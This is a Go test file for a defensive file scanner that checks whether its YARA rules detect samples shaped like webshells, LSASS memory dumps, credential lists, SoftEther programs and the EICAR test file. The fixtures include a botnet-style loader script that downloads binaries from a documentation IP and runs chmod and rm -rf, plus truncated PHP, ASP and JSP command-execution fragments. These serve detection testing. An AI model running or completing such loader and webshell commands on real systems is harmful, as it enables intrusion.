package scan

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"io"
	"os"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/google/go-cmp/cmp"

	"github.com/lapwing-defence/lapwing/internal/scan/indicator"
	"github.com/lapwing-defence/lapwing/internal/scan/unpack"
	"github.com/lapwing-defence/lapwing/internal/scan/yara"
	"github.com/lapwing-defence/lapwing/rules"
)

const marker = "harmless marker: lapwing scan test"

// eicar is the test file, which stands whole in no source.
func eicar() string {
	b := []byte(`*H+H$!ELIF-TSET-SURIVITNA-DRADNATS-RACIE$}7)CC7)^P(45XZP\4[PA@%P!O5X`)
	slices.Reverse(b)
	return string(b)
}

func wide(s string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return string(b)
}

func shipped(t *testing.T) *YARA {
	t.Helper()
	set, problems, err := LoadFS(rules.FS, "yara", nil)
	if err != nil || len(problems) > 0 {
		t.Fatal(err, problems)
	}
	return NewYARA(set, nil, time.Minute)
}

// TestShippedRules: each rule fires on a harmless file of the shape that it
// looks for, and on no other of them. None of the texts does anything: they are
// cut off, inside comments, or name addresses of the documentation.
func TestShippedRules(t *testing.T) {
	y := shipped(t)
	for name, c := range map[string]struct {
		data string
		want []string
	}{
		"a program with SoftEther's names": {"MZ" + strings.Repeat("\x00", 60) + "|hamcore.se2|" + wide("vpnbridge_x64.exe") + wide("SoftEther VPN Project at"), []string{"SoftEther_Program"}},
		"the EICAR test file":              {eicar(), []string{"EICAR_Test_File"}},
		"with a line feed":                 {eicar() + "\r\n", []string{"EICAR_Test_File"}},
		"not at the beginning":             {" " + eicar(), nil},
		"a text about SoftEther":           {"hamcore.se2 vpnbridge.exe SoftEther VPN Project /vpnsvc/connect.cgi", nil},
		"bridge settings":                  {"\xef\xbb\xbf# Software Configuration File\n# marker\ndeclare root\n{\n\tdeclare ServerConfiguration\n\t{\n\t}\n\tdeclare VirtualHUB\n\t{\n", []string{"SoftEther_Bridge_Settings"}},
		"other settings":                   {"declare root of the tree\n", nil},
		"PHP shape":                        {"<?php // " + marker + ", cut off: eval(base64_decode($_POST[", []string{"Webshell_Request_Run_PHP"}},
		"PHP that reads a form":            {"<?php echo htmlspecialchars($_POST['name']); system_check(); ", nil},
		"ASP shape":                        {"<% ' " + marker + ", cut off: eval request(", []string{"Webshell_Request_Run_ASP"}},
		"ASP that reads a form":            {"<% Response.Write(Server.HTMLEncode(Request.Form(\"name\"))) %>", nil},
		"JSP shape":                        {"<%-- " + marker + ", cut off: Runtime.getRuntime().exec(request.getParameter( --%>", []string{"Webshell_Request_Run_JSP"}},
		"JSP page":                         {"<%= request.getParameter(\"q\") %>", nil},
		"a dump of lsass":                  {"MDMP" + marker + wide(`C:\Windows\System32\lsass.exe`) + wide("lsasrv.dll"), []string{"LSASS_Memory_Dump"}},
		"a dump of another program":        {"MDMP" + marker + wide(`C:\Windows\notepad.exe`), nil},
		"a list of passwords":              {"user: anna\npassword: marker-one\nuser: bernd\npassword: marker-two\n", []string{"Credential_Text_File"}},
		"one setting":                      {"user = app\npassword = marker-one\n", nil},
		"a loader":                         {"#!/bin/sh\ncd /tmp\nwget http://192.0.2.1/range-marker.mips; chmod +x range-marker.mips; rm -rf range-marker.mips\nwget http://192.0.2.1/range-marker.arm7; curl -O http://192.0.2.1/range-marker.x86\n", []string{"Botnet_Loader_Script"}},
		"an installer":                     {"#!/bin/sh\ncurl -fsSL https://example.org/tool.tar.gz | tar xz\nchmod +x tool\nrm -rf tmp\n", nil},
	} {
		t.Run(name, func(t *testing.T) {
			found, err := y.Scan(t.Context(), bytes.NewReader([]byte(c.data)), int64(len(c.data)))
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, f := range found {
				got = append(got, f.Rule)
			}
			if d := cmp.Diff(c.want, got); d != "" {
				t.Error(d)
			}
		})
	}
}

func markerRules(t *testing.T) Scanner {
	t.Helper()
	set, problems := yara.Compile([]yara.Source{{Name: "m.yar", Text: []byte(`rule Marker { strings: $a = "harmless marker" condition: $a }`)}}, yara.Options{Externals: externals(nil)})
	if yara.Failed(problems) {
		t.Fatal(problems)
	}
	return NewYARA(set, nil, time.Minute)
}

func zipped(t *testing.T, name, text string) []byte {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	f, err := w.Create(name)
	if err == nil {
		_, err = f.Write([]byte(text))
	}
	if err = errors.Join(err, w.Close()); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func TestInside(t *testing.T) {
	s := &Inside{Scanners: []Scanner{markerRules(t)}}
	data := zipped(t, "b.zip", string(zipped(t, "c.txt", marker)))
	found, err := s.Scan(t.Context(), bytes.NewReader(data), int64(len(data)))
	inside := ""
	for _, f := range found {
		inside = f.Inside // the stored text shows in the outer file too
	}
	if err != nil || inside != "b.zip!c.txt" {
		t.Errorf("%v %q", err, inside)
	}
	s.Limits = unpack.Limits{Depth: 1}
	var part *Incomplete
	if _, err = s.Scan(t.Context(), bytes.NewReader(data), int64(len(data))); !errors.As(err, &part) {
		t.Errorf("a limit is not told: %v", err)
	}
}

func TestTree(t *testing.T) {
	dir := t.TempDir()
	put := func(name string, data []byte, age time.Duration) {
		t.Helper()
		p := filepath.Join(dir, name)
		if err := os.WriteFile(p, data, 0o600); err != nil {
			t.Fatal(err)
		}
		when := time.Now().Add(-age)
		if err := os.Chtimes(p, when, when); err != nil {
			t.Fatal(err)
		}
	}
	put("clean", []byte("nothing"), 0)
	put("bad", []byte(marker), 0)
	put("large", make([]byte, 2000), 0)
	if err := os.Symlink(filepath.Join(dir, "bad"), filepath.Join(dir, "link")); err != nil {
		t.Fatal(err)
	}
	set := indicator.New()
	if err := set.Add(indicator.Indicator{Kind: indicator.Name, Value: "clean", Source: "own"}); err != nil {
		t.Fatal(err)
	}
	tree := Tree{Scanners: []Scanner{markerRules(t), NewKnown(set, time.Now)}, Workers: 2, MaxSize: 1000, Sum: true}
	var got []string
	if err := tree.Run(t.Context(), []string{dir}, func(r Report) {
		line := filepath.Base(r.File)
		for _, f := range r.Findings {
			line += " " + f.Detector + ":" + f.Rule
		}
		if (r.SHA256 != "") != (len(r.Findings) > 0) {
			line += " sum " + r.SHA256
		}
		if r.Err != nil {
			line += " " + r.Err.Error()
		}
		got = append(got, line)
	}); err != nil {
		t.Fatal(err)
	}
	sort.Strings(got)
	if d := cmp.Diff([]string{"bad yara:Marker", "clean indicator:name clean", "large it is larger than 1000 bytes"}, got); d != "" {
		t.Error(d)
	}
}

func TestKnownHash(t *testing.T) {
	set := indicator.New()
	if p, err := set.Read(strings.NewReader("275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f;EICAR test file\n"), "l"); err != nil || len(p) > 0 {
		t.Fatal(err, p)
	}
	eicar := `X5O!P%@AP[4\PZX54(P^)7CC)7}$` + `EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`
	found, err := NewKnown(set, time.Now).Scan(t.Context(), strings.NewReader(eicar), int64(len(eicar)))
	if err != nil || len(found) != 1 || found[0].Rule != "EICAR test file" {
		t.Errorf("%+v %v", found, err)
	}
}

// A file that becomes a link while the scan runs is not followed, and what is
// told of each is where it lay before.
func TestLinksThatCome(t *testing.T) {
	dir, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	tree := filepath.Join(dir, "tree")
	if err := os.MkdirAll(tree, 0o700); err != nil {
		t.Fatal(err)
	}
	for _, n := range []string{"tree/1", "tree/2", "secret"} {
		if err := os.WriteFile(filepath.Join(dir, n), []byte(n), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink(tree, filepath.Join(dir, "named")); err != nil {
		t.Fatal(err)
	}
	var read []string
	swap := scannerFunc(func(_ context.Context, in io.ReaderAt, size int64) ([]Finding, error) {
		b := make([]byte, size)
		in.ReadAt(b, 0)
		read = append(read, string(b))
		second := filepath.Join(tree, "2")
		os.Remove(second)
		return []Finding{{Rule: "R"}}, os.Symlink(filepath.Join(dir, "secret"), second)
	})
	got := map[string]Report{}
	tr := Tree{Scanners: []Scanner{swap}, Workers: 1}
	if err := tr.Run(t.Context(), []string{filepath.Join(dir, "named")}, func(r Report) { got[r.Real] = r }); err != nil {
		t.Fatal(err)
	}
	if len(read) != 1 || read[0] != "tree/1" {
		t.Errorf("read %q", read)
	}
	if r := got[filepath.Join(tree, "2")]; r.Err == nil || len(r.Findings) != 0 || len(got) != 2 {
		t.Errorf("%+v", got)
	}
}

type scannerFunc func(ctx context.Context, in io.ReaderAt, size int64) ([]Finding, error)

func (f scannerFunc) Scan(ctx context.Context, in io.ReaderAt, size int64) ([]Finding, error) {
	return f(ctx, in, size)
}

// The string that took most is named, where it took much.
func TestSlowest(t *testing.T) {
	for want, costs := range map[string][]yara.Cost{
		"":                                   {{Rule: "a", String: "$x", Steps: slow - 1}},
		"; most of it took rule b $y":        {{Rule: "a", String: "$x", Steps: slow}, {Rule: "b", String: "$y", Steps: slow + 1}, {Rule: "c", Steps: 3}},
		"; most of it took rule a the first": {{Rule: "a", String: "the first", Steps: slow}, {Rule: "b", Steps: slow}},
	} {
		if got := slowest(costs); got != want {
			t.Errorf("got %q, want %q", got, want)
		}
	}
	if got := slowest(nil); got != "" {
		t.Errorf("of none: %q", got)
	}
}
